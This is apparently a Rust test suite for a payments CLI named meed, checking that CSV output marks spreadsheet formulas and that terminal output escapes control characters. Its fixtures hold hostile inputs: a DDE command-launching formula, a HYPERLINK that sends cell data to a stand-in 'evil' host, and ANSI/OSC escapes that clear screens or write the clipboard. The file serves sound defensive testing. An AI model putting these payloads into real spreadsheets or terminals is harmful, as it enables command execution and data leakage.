//! What is in tables is shown to people without power over their terminals, and to spreadsheets as text.

mod support;

use support::{Ended, Folder};

const PROGRAM: &str = r#"program inj "Inj" {
  currency USD rounded half even
  active 2026-01-01 to 2026-12-31
}
use channel
rule r {
  for each deal
  set note to ("x" if amount > $5, otherwise "y")
  set back to amount - $2000
  pay partner 2% of amount
}
"#;

const DEALS: &str = "id,closed_on,partner,amount\n\
    =1+1,2026-02-01,\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",1000\n\
    D2,2026-02-01,@SUM(1+1)*cmd|' /C calc'!A0,1000\n\
    D3,2026-02-01,+1+1,1000\n\
    D4,2026-02-01,-2+3,1000\n\
    D5,2026-02-01,\u{1b}[31mRED\u{1b}[0m\u{1b}]0;title\u{7},1000\n\
    D6,2026-02-01,\"a\"\"b\n\tc\",1000\n\
    \"\\u0000<script>\",2026-02-01,\"\\u0000<script>\",1000\n";

const PARTNERS: &str = "id\n\
    \"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\"\n\
    @SUM(1+1)*cmd|' /C calc'!A0\n\
    +1+1\n\
    -2+3\n\
    \u{1b}[31mRED\u{1b}[0m\u{1b}]0;title\u{7}\n\
    \"a\"\"b\n\tc\"\n\
    \"\\u0000<script>\"\n";

const BAD: &str = "id,closed_on,partner,amount\n\
    \u{1b}[2J\u{1b}[31mOWNED,2026-02-01,nobody\u{1b}]52;c;ZXZpbA==\u{7},12\u{1b}[5m\u{8}\u{8}\n\
    =cmd,2026-02-01,\u{202e}=evil,x\n\
    \"a\nb\",2026-99-01,X,\"1\"\"2\"\n";

fn folder(name: &str) -> Folder {
    let folder = Folder::new(name);
    folder.write("injection.meed", PROGRAM);
    folder.write("data/deals.csv", DEALS).write("data/partners.csv", PARTNERS);
    folder.write("bad/deals.csv", BAD).write("bad/partners.csv", PARTNERS);
    folder
}

fn run(folder: &Folder, arguments: &[&str]) -> Ended {
    folder.meed(&[&["run", "injection.meed", "--out", "o"], arguments].concat())
}

/// Demands that nothing but text, and the ends of its lines, reaches a terminal.
fn harmless(ended: Ended) -> Ended {
    for text in [&ended.out, &ended.messages] {
        let bad =
            text.chars().find(|sign| (sign.is_control() && *sign != '\n') || ('\u{202a}'..'\u{202f}').contains(sign));
        assert_eq!(bad, None, "{text:?}");
    }
    ended
}

/// The cells of a table as CSV.
fn cells(folder: &Folder, file: &str) -> Vec<Vec<String>> {
    let text = folder.read(file);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader.records().map(|row| row.expect("a row").iter().map(str::to_owned).collect()).collect()
}

#[test]
fn cells_that_a_spreadsheet_runs_are_marked_in_csv_and_the_run_counts_them() {
    let folder = folder("foreign-formulas");
    harmless(run(&folder, &["--data", "data"]).with(0)).says("11 cells begin like formulas and are marked");
    for (file, columns) in [("o/payments.csv", &[3, 7][..]), ("o/totals.csv", &[2]), ("o/decisions.csv", &[3])] {
        for row in cells(&folder, file) {
            for cell in columns.iter().map(|&column| &row[column]) {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{file}: {cell}");
            }
        }
    }
    let payments = folder.read("o/payments.csv");
    assert!(
        payments.contains(",\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",USD,20.00,deal,'=1+1,"),
        "{payments}"
    );
    // Meed's own numbers are no formulas.
    assert!(folder.read("o/decisions.csv").contains(",back,-1000\n"));
    run(&folder, &["--data", "data", "--csv-formulas", "as-is"]).with(0).says("r: 7 payments");
    let as_is: Vec<String> = cells(&folder, "o/payments.csv").into_iter().map(|row| row[3].clone()).collect();
    let mut reader = csv::Reader::from_reader(PARTNERS.as_bytes());
    let partners: Vec<String> = reader.records().map(|row| row.expect("a row")[0].to_owned()).collect();
    for partner in partners {
        assert!(as_is.contains(&partner), "{partner:?}");
    }
    run(&folder, &["--data", "data", "--format", "jsonl"]).with(0);
    assert!(
        folder.read("o/payments.jsonl").contains(r#""key":"=1+1""#),
        "JSON is typed: {}",
        folder.read("o/payments.jsonl")
    );
    run(&folder, &["--data", "data", "--csv-formulas", "never"]).with(2);
}

#[test]
fn expected_totals_may_be_those_that_a_run_wrote() {
    let folder = folder("foreign-totals");
    run(&folder, &["--data", "data"]).with(0);
    folder.write("t.meed", format!("{PROGRAM}test \"as paid\" {{\n  given deal from \"data/deals.csv\"\n  given partner from \"data/partners.csv\"\n  expect totals from \"o/totals.csv\"\n}}\n"));
    harmless(folder.meed(&["test", "t.meed"]).with(0));
}

#[test]
fn cells_reach_a_terminal_as_plain_text() {
    let folder = folder("foreign-terminal");
    let ended = harmless(run(&folder, &["--data", "bad"]).with(3));
    ended.says("as `12\\u{1b}[5m\\u{8}\\u{8}` in row 1").says("error[rejected-rows]: 3 rows are rejected");
    // References, once the other cells are well.
    let well = BAD.replace("12\u{1b}[5m\u{8}\u{8}", "12").replace(",x\n", ",1\n");
    folder.write("bad/deals.csv", well.replace("2026-99", "2026-09").replace("\"1\"\"2\"", "1"));
    let ended = harmless(run(&folder, &["--data", "bad"]).with(3));
    let ended = ended.says("value `nobody\\u{1b}]52;c;ZXZpbA==\\u{7}`: there is no partner with this key");
    ended.says("value `\\u{202e}=evil`").says("error[rejected-rows]: 3 rows");
    // For machines it is escaped by JSON alone, and as short.
    let ended = run(&folder, &["--data", "bad", "--message-format", "json"]).with(3);
    assert!(ended.out.contains(r"value `nobody\\u{1b}]52"), "{}", ended.out);
}

#[test]
fn explanations_reach_a_terminal_as_plain_text() {
    let folder = folder("foreign-explain");
    let explain = |arguments: &[&str]| harmless(folder.meed(&[&["explain", "injection.meed"], arguments].concat()));
    let paid = explain(&["--data", "data", "--key", "D5"]).with(0);
    assert!(paid.out.contains("pays partner \\u{1b}[31mRED\\u{1b}[0m\\u{1b}]0;title\\u{7} 20.00 USD"), "{}", paid.out);
    let broken = explain(&["--data", "data", "--key", "D6"]).with(0);
    assert!(broken.out.contains("pays partner a\"b\\n\\tc 20.00 USD"), "{}", broken.out);
    let rejected = explain(&["--data", "bad", "--key", "\u{1b}[2J\u{1b}[31mOWNED"]).with(0);
    assert!(rejected.out.contains("deal \\u{1b}[2J\\u{1b}[31mOWNED is rejected"), "{}", rejected.out);
    explain(&["--data", "data", "--payee", "no\u{1b}[2Jbody"]).with(0);
    explain(&["--data", "data", "--rule", "no\u{1b}[2Jrule"]).with(2).says("\\u{1b}[2J");
    explain(&["--data", "data", "--period", "no\u{9b}2J"]).with(2).says("\\u{9b}2J");
}

#[test]
fn rejected_rows_are_set_aside_with_their_formulas_marked() {
    let folder = folder("foreign-rejects");
    folder.write("bad/deals.csv", format!("{BAD}D9,2026-02-01,@evil,=1+1\n"));
    harmless(run(&folder, &["--data", "bad", "--rejects", "o/rejects.csv"]).with(0))
        .says("1 cell begins like a formula");
    for row in cells(&folder, "o/rejects.csv") {
        assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{row:?}");
    }
}

#[test]
fn headers_files_and_parameters_reach_a_terminal_as_plain_text() {
    let folder = folder("foreign-names");
    let long = "x".repeat(5_000);
    folder.write("head/deals.csv", format!("\u{1b}[2J,{long},\u{202e}id\n"));
    folder.write("head/partners.csv", "id\nA\n");
    let ended = harmless(run(&folder, &["--data", "head"]).with(3)).says("`\\u{1b}[2J`").says("…");
    assert!(ended.messages.len() < 1_000, "a long header is cut: {}", ended.messages);
    let odd = "odd/a\u{1b}[2J.csv";
    folder.write(odd, "id\nA\n").write("odd/deals.csv", DEALS).write("odd/partners.csv", PARTNERS);
    harmless(run(&folder, &["--data", "odd"]).with(0)).says("not read: odd/a\\u{1b}[2J.csv");
    harmless(run(&folder, &["--data", &format!("deal={odd}x")]).with(3)).says("\\u{1b}[2J");
    harmless(run(&folder, &["--data", "data", "--set", "\u{1b}[2J"]).with(2)).says("\\u{1b}[2J");
    harmless(run(&folder, &["--data", "data", "--set", "a\u{1b}[2J=1"]).with(2)).says("\\u{1b}[2J");
    let parameter = "use channel\nparameter word = \"x\"";
    folder.write("injection.meed", PROGRAM.replace("use channel", parameter).replace("\"x\" if", "word if"));
    harmless(run(&folder, &["--data", "data", "--set", "word=\"\u{1b}[2J\""]).with(1)).says("\"\\u{1b}[2J\"");
    harmless(run(&folder, &["--data", "data", "--set", &format!("word=\"{long}\"")]).with(0)).says("x…x");
}

#[test]
fn a_program_reaches_a_terminal_as_plain_text() {
    let folder = Folder::new("foreign-program");
    folder.write(
        "p.meed",
        PROGRAM.replace("rule r {", "rule r { // \u{1b}[2J \u{202e}\u{9b}\n  \u{7}pays \u{1b}]0;x\u{7}"),
    );
    let ended = harmless(folder.meed(&["check", "p.meed"]).with(1));
    ended.says("\\u{1b}[2J");
    folder.write("meed.toml", "program = \"p.meed\"\n\"\u{85}\" = \"\u{202e}\"\n");
    harmless(folder.meed(&["check"]).with(2));
}
